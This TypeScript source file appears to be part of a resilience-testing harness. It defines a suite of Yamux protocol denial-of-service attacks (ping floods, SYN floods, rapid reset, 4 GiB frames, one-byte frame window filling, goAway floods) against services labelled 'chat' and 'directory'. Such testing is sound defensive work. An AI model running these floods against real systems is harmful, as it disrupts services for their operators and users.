// Attacks inside of an encrypted connection, below any protocol: frames of Yamux
// that keep to its letter and serve nothing, and some that do not.
import { randomBytes } from 'node:crypto'
import type { Attack, AttackContext } from '../attack.ts'
import { flags, frameTypes, header, onLinks, type RawLink } from '../raw-link.ts'

/** So many frames are handed to the connection at once. */
const framesAtOnce = 500

/** Connects again and again, and on each connection pours frames that `next` makes. */
async function flood(
  context: AttackContext,
  next: (link: RawLink) => Uint8Array,
  options: { readonly reads?: boolean } = {}
): Promise<void> {
  await onLinks(context, async (link) => {
    if (options.reads === false) link.stopReading()
    await link.pour(() => Buffer.concat(Array.from({ length: framesAtOnce }, () => next(link))))
  })
}

function syn(stream: number): Uint8Array {
  return header({ type: frameTypes.windowUpdate, flags: flags.syn, stream })
}

function ping(id: number): Uint8Array {
  return header({ type: frameTypes.ping, flags: flags.syn, length: id })
}

/** A window of the victim's for each of so many streams, in frames of one byte. */
const oneByteStreams = 8

export const yamuxAttacks: readonly Attack[] = [
  {
    name: 'pings-unread',
    does: 'sends pings and reads no answer',
    against: ['chat', 'directory'],
    inSample: true,
    named: true,
    run: async (context) => {
      let id = 0
      await flood(context, () => ping(id++), { reads: false })
    }
  },
  {
    name: 'pings',
    does: 'sends pings as fast as they are answered',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) => {
      let id = 0
      await flood(context, () => ping(id++))
    }
  },
  {
    name: 'syn-flood',
    does: 'opens streams and says nothing on them',
    against: ['chat', 'directory'],
    inSample: true,
    named: true,
    run: async (context) => flood(context, (link) => syn(link.newStream()))
  },
  {
    name: 'rapid-reset',
    does: 'opens streams and resets each at once',
    against: ['chat', 'directory'],
    inSample: true,
    named: true,
    run: async (context) =>
      flood(context, (link) => {
        const stream = link.newStream()
        return Buffer.concat([syn(stream), header({ type: frameTypes.windowUpdate, flags: flags.rst, stream })])
      })
  },
  {
    name: 'syn-flood-unread',
    does: 'opens streams and reads nothing of what is answered',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) => flood(context, (link) => syn(link.newStream()), { reads: false })
  },
  {
    name: 'streams-half-closed',
    does: 'opens streams and closes its half of each',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) =>
      flood(context, (link) => {
        const stream = link.newStream()
        return Buffer.concat([syn(stream), header({ type: frameTypes.data, flags: flags.fin, stream })])
      })
  },
  {
    name: 'headers-of-garbage',
    does: 'sends random bytes in the place of frames',
    against: ['chat', 'directory'],
    inSample: true,
    run: async (context) => flood(context, () => randomBytes(12))
  },
  {
    name: 'unknown-version',
    does: 'sends headers of a version that there is not',
    against: ['chat', 'directory'],
    run: async (context) => flood(context, () => header({ version: 7, type: frameTypes.ping, flags: flags.syn }))
  },
  {
    name: 'data-for-no-stream',
    does: 'sends data for streams that do not exist',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) => {
      const body = new Uint8Array(64)
      await flood(context, (link) =>
        Buffer.concat([header({ type: frameTypes.data, stream: link.newStream(), length: body.byteLength }), body])
      )
    }
  },
  {
    name: 'empty-data',
    does: 'sends data frames of no bytes to a stream',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) => {
      const opened = new WeakSet<RawLink>()
      await flood(context, (link) => {
        if (opened.has(link)) return header({ type: frameTypes.data, stream: 1_000_999 })
        opened.add(link)
        return syn(1_000_999)
      })
    }
  },
  {
    name: 'empty-window-updates',
    does: 'sends window updates that give nothing',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) =>
      flood(context, (link) => header({ type: frameTypes.windowUpdate, stream: link.newStream() }))
  },
  {
    name: 'windows-without-end',
    does: 'opens the window of a stream again and again by the largest number',
    against: ['chat', 'directory'],
    run: async (context) => {
      const opened = new WeakSet<RawLink>()
      await flood(context, (link) => {
        const isNew = !opened.has(link)
        opened.add(link)
        return header({
          type: frameTypes.windowUpdate,
          flags: isNew ? flags.syn : flags.none,
          stream: 1_000_999,
          length: 0xffff_ffff
        })
      })
    }
  },
  {
    name: 'frame-of-4-gib',
    does: 'announces a data frame of 4 GiB and sends as much of it as it can',
    against: ['chat', 'directory'],
    named: true,
    run: async (context) =>
      onLinks(context, async (link) => {
        const stream = link.newStream()
        link.send(Buffer.concat([syn(stream), header({ type: frameTypes.data, stream, length: 0xffff_ffff })]))
        const body = new Uint8Array(64 * 1024)
        await link.pour(() => body)
      })
  },
  {
    name: 'frames-of-one-byte',
    does: 'fills the windows of streams that nobody reads with frames of one byte',
    against: ['chat', 'directory'],
    inSample: true,
    run: async (context) =>
      onLinks(context, async (link) => {
        const streams = Array.from({ length: oneByteStreams }, () => link.newStream())
        for (const stream of streams) link.send(syn(stream))
        let at = 0
        await link.pour(() =>
          Buffer.concat(
            Array.from({ length: framesAtOnce }, () => {
              const stream = streams[at++ % streams.length] ?? 0
              return Buffer.concat([header({ type: frameTypes.data, stream, length: 1 }), Buffer.of(0x61)])
            })
          )
        )
      })
  },
  {
    name: 'farewells',
    does: 'says again and again that it goes away',
    against: ['chat', 'directory'],
    run: async (context) => flood(context, () => header({ type: frameTypes.goAway }))
  },
  {
    name: 'ping-answers-unasked',
    does: 'answers pings that nobody sent',
    against: ['chat', 'directory'],
    run: async (context) => flood(context, () => header({ type: frameTypes.ping, flags: flags.ack, length: 7 }))
  }
]
